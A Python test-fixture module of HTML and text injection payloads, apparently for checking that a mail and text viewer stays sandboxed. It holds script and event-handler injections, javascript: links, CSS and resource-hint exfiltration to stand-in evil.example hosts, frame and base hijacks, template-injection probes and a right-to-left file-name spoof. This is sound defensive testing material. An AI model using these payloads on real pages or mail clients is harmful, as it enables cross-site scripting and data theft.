"""Mails and texts that try to act on the page that shows them, or to reach a host outside."""

from __future__ import annotations

from collections.abc import Mapping

__all__ = ["ACT", "MAILS", "TEXTS", "WHOLE"]

ACT = (
    "top.acted=1;parent.acted=1;document.title='acted';alert('acted');"
    "fetch('https://fetch.evil.example/');top.location='https://top.evil.example/'"
)
"""A script that leaves traces in every way it can."""

WHOLE = "style='position:fixed;top:0;left:0;width:100%;height:100%;display:block;opacity:.5;z-index:9'"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{ACT}\"><script>{ACT}</script></svg>"

MAILS: Mapping[str, str] = {
    "script": f"<script>{ACT}</script><script src='https://src.evil.example/x.js'></script>",
    "module": f"<script type=module>{ACT}</script><link rel=modulepreload href='https://module.evil.example/x.js'>",
    "handlers": f'<img src=x onerror="{ACT}"><body onload="{ACT}"><details open ontoggle="{ACT}">x</details>',
    "styled handlers": f"<style>@keyframes a{{}}</style><p style='animation: a 1s' onanimationstart=\"{ACT}\">x</p>",
    "javascript link": f'<a {WHOLE} href="javascript:{ACT}">x</a>',
    "javascript link to the page": f'<a {WHOLE} target=_top href="javascript:{ACT}">x</a>',
    "encoded javascript link": f'<a {WHOLE} href="&#106;ava&#x0A;script&colon;{ACT}">x</a>',
    "data link": f'<a {WHOLE} target=_top href="data:text/html,<script>{ACT}</script>">x</a>',
    "link to elsewhere": f"<a {WHOLE} href='https://link.evil.example/' ping='https://ping.evil.example/'>x</a>",
    "link to the page": f"<a {WHOLE} href='https://top-link.evil.example/' target=_top>x</a>",
    "link to a window": f"<a {WHOLE} href='https://window.evil.example/' target=_blank>x</a>",
    "map": "<img usemap=#m src=data:, width=900 height=700><map name=m><area shape=default"
    " href='https://map.evil.example/' target=_top></map>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://refresh.evil.example/'>",
    "refresh by a script": f'<meta http-equiv=refresh content="0;url=javascript:{ACT}">',
    "policy": "<meta http-equiv=content-security-policy content=\"default-src *; script-src 'unsafe-inline';"
    ' report-uri https://policy.evil.example/"><script>' + ACT + "</script><img src='https://policed.evil.example/x'>",
    "form": "<form action='https://form.evil.example/' target=_top><input name=a autofocus>"
    f"<button {WHOLE}>x</button></form>",
    "form of a script": f'<form action="javascript:{ACT}"><input type=submit {WHOLE}></form>',
    "button with its own address": f"<form><button {WHOLE} formaction='https://button.evil.example/'>x</button></form>",
    "drawing": _SVG + "<svg><image href='https://svg.evil.example/x'/><use href='https://use.evil.example/#x'/>"
    f'<a href="javascript:{ACT}"><text y=20>x</text></a><foreignObject><script>{ACT}</script></foreignObject></svg>',
    "drawing as an image": f'<img src="data:image/svg+xml,{_SVG.replace("#", "%23").replace(chr(34), "&quot;")}">',
    "mathematics": f"<math href=\"javascript:{ACT}\"><mi xlink:href='https://math.evil.example/'>x</mi></math>",
    "styles": "<style>@import 'https://import.evil.example/x.css'; @import url(//imported.evil.example/x.css);"
    "@font-face { font-family: f; src: url(https://font.evil.example/x.woff2) } body { font-family: f;"
    " background: url(https://url.evil.example/x), image-set('https://set.evil.example/x' 1x);"
    " cursor: url(https://cursor.evil.example/x), auto; list-style: url(https://list.evil.example/x) }"
    " p::before { content: url(https://content.evil.example/x) } input[value^=a] {"
    " background: url(https://leak.evil.example/a) }</style><p style='background:url(https://style.evil.example/x)'>x"
    "<input value=a>",
    "frames": "<iframe src='https://frame.evil.example/'></iframe><iframe srcdoc=\"<script>"
    + ACT
    + "</script>\"></iframe><frameset><frame src='https://set.evil.example/'></frameset>"
    "<fencedframe></fencedframe><portal src='https://portal.evil.example/'></portal>",
    "frame of the page itself": "<iframe src='/'></iframe><iframe src='/api/messages'></iframe>",
    "base": f"<base href='https://base.evil.example/' target=_top><img src=x><a {WHOLE} href=x>x</a>",
    "images": "<img src='https://img.evil.example/x' srcset='https://srcset.evil.example/x 2x, //two.evil.example/ 3x'>"
    "<picture><source srcset='https://source.evil.example/x'><img lowsrc='https://low.evil.example/x'></picture>"
    "<input type=image src='https://input.evil.example/x'><table background='https://table.evil.example/x'><tr><td>x",
    "media": "<video src='https://video.evil.example/x' poster='https://poster.evil.example/x' autoplay>"
    "<track src='https://track.evil.example/x'></video><audio src='https://audio.evil.example/x' autoplay></audio>"
    "<bgsound src='https://sound.evil.example/x'>",
    "hints": "<link rel=dns-prefetch href='//dns.evil.example'><link rel=preconnect href='https://pre.evil.example'>"
    "<LINK/rel='preconnect' href='https://slash.evil.example'><link\nrel=prefetch href='https://fetch.evil.example/x'>"
    "<link rel=preload as=image href='https://load.evil.example/x'><link rel=prerender href='//render.evil.example/'>"
    "<link rel='stylesheet preconnect' href='https://sheet.evil.example/x'><link rel=icon href='//icon.evil.example/'>"
    "<link rel=manifest href='https://manifest.evil.example/x'><meta http-equiv=x-dns-prefetch-control content=on>"
    "<a href='https://anchor.evil.example/'>x</a>"
    "<svg><style><link rel=preconnect href=//svg.evil.example></style></svg>",
    "speculation": '<script type=speculationrules>{"prefetch": [{"source": "list", "urls":'
    ' ["https://speculation.evil.example/"]}]}</script>',
    "plug-ins": "<object data='https://object.evil.example/x'></object><embed src='https://embed.evil.example/x'>"
    "<applet code=x codebase='https://applet.evil.example/'></applet>"
    f'<object data="data:text/html,<script>{ACT}</script>"></object>',
    "end of the frame": f"</iframe></section></main><h1>not ours</h1><script>{ACT}</script>",
    "hidden in a comment": f'<!--[if gte mso 9]><script>{ACT}</script><![endif]--><!--><img src=x onerror="{ACT}">-->',
    "mutation": f"<noscript><p title=\"</noscript><img src=x onerror='{ACT.replace(chr(39), '&#39;')}'>\"></noscript>"
    f'<template shadowrootmode=open><img src=x onerror="{ACT}"></template>',
    "xml": f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>{ACT}</script></html>",
}
"""HTML parts by what they try. A link or a button covers the whole frame, so that a click anywhere meets it."""

TEXTS = (
    f"<script>{ACT}</script>",
    f'<img src=x onerror="{ACT}">',
    f"'\"><svg onload={ACT}>",
    f"</title></style></script><script>{ACT}</script>",
    f"javascript:{ACT}",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
    "<a href='https://text.evil.example/'>x</a><link rel=preconnect href='https://text-pre.evil.example'>",
    "&lt;script&gt;already escaped&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "<!-- <b>comment</b> ]]> --> \u202etxt.exe\u202c \x1b[31mred",
)
"""What stands in a subject, a name, an address, a file name, a reply, a domain and a campaign's name."""
